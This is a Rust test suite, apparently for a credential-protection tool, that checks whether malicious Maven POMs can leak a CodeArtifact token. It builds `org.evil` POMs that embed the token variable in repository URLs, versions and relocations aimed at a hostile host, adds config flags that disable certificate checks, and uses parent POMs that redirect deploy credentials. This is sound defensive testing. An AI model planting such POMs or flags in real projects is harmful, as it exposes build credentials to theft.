//! What the POM of a dependency can make Maven do with the token. `docs/untrusted-projects.md` tells it.
//!
//! The dependencies come from a folder that stands for a public repository. Each file there has its checksum: Maven 4 takes
//! none without, and would look as if it held what it never read.

use std::fs;

use vouch_e2e::hostile::HostileHost;
use vouch_e2e::maven::{self, ENDPOINT, Maven, REPOSITORY};
use vouch_e2e::{CommandOutput, Sandbox, in_sandbox};

const VARIABLE: &str = "${env.CODEARTIFACT_AUTH_TOKEN}";

/// A POM of a dependency, `org.evil:evil:1.0`, and how a project uses it.
struct Attack {
    name: &'static str,
    pom: String,
    project: String,
}

fn dependency(artifact: &str, version: &str, more: &str) -> String {
    format!(
        "<dependencies><dependency><groupId>org.evil</groupId><artifactId>{artifact}</artifactId><version>{version}</version>\
         <type>pom</type>{more}</dependency></dependencies>\n"
    )
}

fn repository(id: &str, url: &str) -> String {
    format!("<repositories><repository><id>{id}</id><url>{url}</url></repository></repositories>\n")
}

fn bom(artifact: &str) -> String {
    let import = dependency(artifact, "1.0", "<scope>import</scope>");
    format!("<dependencyManagement>{import}</dependencyManagement>\n")
}

fn attacks(hostile: &HostileHost) -> [Attack; 5] {
    let host = hostile.url();
    let url = repository("x", &format!("{host}/a/{VARIABLE}/"));
    let missing = dependency("missing", "1.0", "");
    let uses_it = dependency("evil", "1.0", "");
    let moved = format!("<relocation><version>{VARIABLE}</version></relocation>");
    let attack = |name, pom, project: &str| Attack { name, pom, project: project.to_owned() };
    [
        attack("a URL", url.clone() + &missing, &uses_it),
        attack("a BOM that is imported", url + &bom("missing"), &bom("evil")),
        attack("a version", dependency("missing", VARIABLE, ""), &uses_it),
        attack("a relocation", format!("<distributionManagement>{moved}</distributionManagement>"), &uses_it),
        attack("our id", repository(REPOSITORY, &format!("{host}/b/")) + &missing, &uses_it),
    ]
}

impl Attack {
    /// Builds the project on a machine that never saw the dependency.
    fn run(&self, sandbox: &Sandbox, maven: Maven, kind: &str) -> CommandOutput {
        let pom = "public/org/evil/evil/1.0/evil-1.0.pom";
        let text = maven::pom("evil", "1.0", &self.pom).replace("com.example", "org.evil");
        let packaging =
            text.replace("<version>1.0</version>\n", "<version>1.0</version>\n<packaging>pom</packaging>\n");
        sandbox.write(pom, &packaging);
        let sum = sandbox.run("sha1sum").arg(sandbox.file(pom)).ok().stdout;
        sandbox.write(&format!("{pom}.sha1"), sum.split(' ').next().unwrap());
        let public = repository("public", &format!("file://{}", sandbox.file("public").display()));
        sandbox.write("app/pom.xml", &maven::pom("app", "1.0", &(public + &self.project)));
        let _ = fs::remove_dir_all(sandbox.file(".m2/repository/org/evil"));
        maven.exec(sandbox, kind, "app", &["compile"]).done()
    }
}

/// Whether the token is where others may read it.
fn is_out(hostile: &HostileHost, done: &CommandOutput, token: &str) -> bool {
    hostile.got_a_token() || done.stdout.contains(token)
}

fn no_dependency_gets_the_token(maven: Maven) {
    in_sandbox(&[], |sandbox| {
        sandbox.ready();
        let hostile = HostileHost::start();
        let attacks = attacks(&hostile);
        let token = sandbox.vouch(&["credential", "codeartifact"]).ok().stdout.trim().to_owned();
        // As the documentation has it, and as an earlier Vouch wrote it.
        let packages = maven.packages("central");
        let server = format!(
            "<server><id>{REPOSITORY}</id><username>aws</username><password>{VARIABLE}</password></server>"
        );
        let settings = format!(
            "<settings>\n  <servers>{server}</servers>\n  <mirrors>\n{packages}  </mirrors>\n</settings>\n"
        );
        sandbox.write(".m2/settings.xml", &settings);
        for attack in &attacks {
            let done = attack.run(sandbox, maven, "codeartifact");
            assert!(is_out(&hostile, &done, &token), "{}: nothing to hold: {done}", attack.name);
        }
        let _ = maven::set_up(sandbox, &[]).ok();
        for attack in &attacks {
            let done = attack.run(sandbox, maven, "maven");
            assert!(done.stdout.contains("Scanning for projects"), "{}: {done}", attack.name);
            assert!(!is_out(&hostile, &done, &token), "{}: {done}", attack.name);
        }
        // Not held, as the page says: the variable that every POM knows,
        let [url, .., id] = &attacks;
        let done = url.run(sandbox, maven, "codeartifact");
        assert!(is_out(&hostile, &done, &token), "{done}");
        // the known id without the mirror, and what Maven prints when it is asked for everything.
        let _ = maven::set_up(sandbox, &["--no-mirror"]).ok();
        let done = id.run(sandbox, maven, "maven");
        assert!(hostile.got_a_token(), "{done}");
        let done = url.run(sandbox, maven, "maven");
        assert!(!is_out(&hostile, &done, &token), "{done}");
        sandbox.write("quiet/pom.xml", &maven::pom("quiet", "1.0", ""));
        let done = maven.exec(sandbox, "maven", "quiet", &["-X", "compile"]).ok();
        assert!(done.stdout.contains(&token), "{done}");
        let done = maven.exec(sandbox, "maven", "quiet", &["compile"]).ok();
        assert!(!done.to_string().contains(&token), "{done}");
    });
}

#[test]
fn no_dependency_gets_the_token_of_the_distributions_maven() {
    no_dependency_gets_the_token(Maven::Distribution);
}

#[test]
fn no_dependency_gets_the_token_of_maven_three() {
    no_dependency_gets_the_token(Maven::Pinned("3.9.16"));
}

#[test]
fn no_dependency_gets_the_token_of_maven_four() {
    no_dependency_gets_the_token(Maven::Pinned("4.0.0-rc-5"));
}

/// A project's own configuration of Maven can switch the check of certificates off; then whoever is in the middle reads along.
#[test]
fn a_project_can_switch_the_check_of_certificates_off() {
    in_sandbox(&[], |sandbox| {
        sandbox.ready();
        let middle = HostileHost::start_in_the_middle();
        let repository = repository(REPOSITORY, ENDPOINT);
        let needs = "<dependencies><dependency><groupId>com.example</groupId><artifactId>greeting</artifactId>\
                     <version>1.0</version></dependency></dependencies>\n";
        sandbox.write("app/pom.xml", &maven::pom("app", "1.0", &(repository + needs)));
        for (maven, setting) in [
            (Maven::Distribution, "-Dmaven.wagon.http.ssl.insecure=true"),
            (Maven::Pinned("3.9.16"), "-Daether.connector.https.securityMode=insecure"),
            (Maven::Pinned("4.0.0-rc-5"), "-Daether.transport.https.securityMode=insecure"),
        ] {
            let packages = maven.packages("central");
            let settings = format!("<settings>\n  <mirrors>\n{packages}  </mirrors>\n</settings>\n");
            sandbox.write(".m2/settings.xml", &settings);
            let _ = maven::set_up(sandbox, &[]).ok();
            let run = |config: &str| {
                let _ = fs::remove_dir_all(sandbox.file(".m2/repository/com"));
                sandbox.write("app/.mvn/maven.config", config);
                maven.exec(sandbox, "maven", "app", &["compile"]).done()
            };
            let led = middle.in_the_middle();
            let done = run("");
            assert!(done.code != 0 && !middle.got_a_token(), "{maven:?}: {done}");
            let done = run(&format!("{setting}\n"));
            assert!(middle.got_a_token(), "{maven:?}: {done}");
            assert!(done.stderr.contains("turns the check of certificates off"), "{maven:?}: {done}");
            let done = run(&format!("{setting}\n-Dhttps.proxyHost=127.0.0.1\n"));
            let _ = done.expect_code(125).says("was not started");
            assert_eq!(middle.arrived(), Vec::<String>::new());
            drop(led);
            let doctor = sandbox.vouch(&["doctor"]).within(sandbox.file("app")).done();
            assert!(doctor.stdout.contains(".mvn/maven.config"), "{doctor}");
            let _ = sandbox.vouch(&["undo", "maven"]).ok();
        }
    });
}

/// The POM of a library that takes what it deploys to from a parent.
fn child(place: &str) -> String {
    let parent = format!(
        "<parent><groupId>com.example</groupId><artifactId>parent</artifactId><version>1.0</version>{place}</parent>\n"
    );
    maven::pom("lib", "1.0-SNAPSHOT", &parent)
}

/// A published parent with our id gets the token of what is deployed; one that is a file of the project is looked at.
#[test]
fn deploying_stays_bound_to_the_id() {
    in_sandbox(&[], |sandbox| {
        sandbox.enroll();
        sandbox.log_in();
        let hostile = HostileHost::start();
        let list = format!(
            "<distributionManagement><snapshotRepository><id>{REPOSITORY}</id><url>{}/s/</url></snapshotRepository>\
             </distributionManagement>\n",
            hostile.url()
        );
        let parent = maven::pom("parent", "1.0", &list)
            .replace("<version>1.0</version>\n", "<version>1.0</version>\n<packaging>pom</packaging>\n");
        sandbox.write(".m2/repository/com/example/parent/1.0/parent-1.0.pom", &parent);
        sandbox.write("parent/pom.xml", &parent);
        for maven in [Maven::Distribution, Maven::Pinned("3.9.16"), Maven::Pinned("4.0.0-rc-5")] {
            let packages = maven.packages("central");
            sandbox.write(
                ".m2/settings.xml",
                &format!("<settings>\n  <mirrors>\n{packages}  </mirrors>\n</settings>\n"),
            );
            let _ = maven::set_up(sandbox, &[]).ok();
            sandbox.write("lib/pom.xml", &child("<relativePath/>"));
            let done = maven.exec(sandbox, "maven", "lib", &["deploy"]).done();
            assert!(hostile.got_a_token(), "{done}");
            sandbox.write("lib/pom.xml", &child("<relativePath>../parent</relativePath>"));
            let done = maven.exec(sandbox, "maven", "lib", &["deploy"]).fails(125);
            let _ = done.says("that place would get the token of").says(ENDPOINT);
            assert_eq!(hostile.arrived(), Vec::<String>::new());
            // The project itself may say which POM is meant.
            sandbox.write("led/.mvn/maven.config", "-f\nsub/pom.xml\n");
            sandbox.write("led/pom.xml", &maven::pom("led", "1.0-SNAPSHOT", ""));
            sandbox.write("led/sub/pom.xml", &maven::pom("sub", "1.0-SNAPSHOT", &list));
            let token = sandbox.vouch(&["credential", "codeartifact"]).ok().stdout;
            let run = maven.prepared(sandbox, "mvn").args(["--batch-mode", "deploy"]);
            let run = run.env(&maven::variable(sandbox), token.trim()).within(sandbox.file("led"));
            let done = run.done();
            assert!(hostile.got_a_token(), "{done}");
            let done = maven.exec(sandbox, "maven", "led", &["deploy"]).fails(125);
            let _ = done.says("that place would get the token of").says("led/sub/pom.xml");
            assert_eq!(hostile.arrived(), Vec::<String>::new());
        }
    });
}
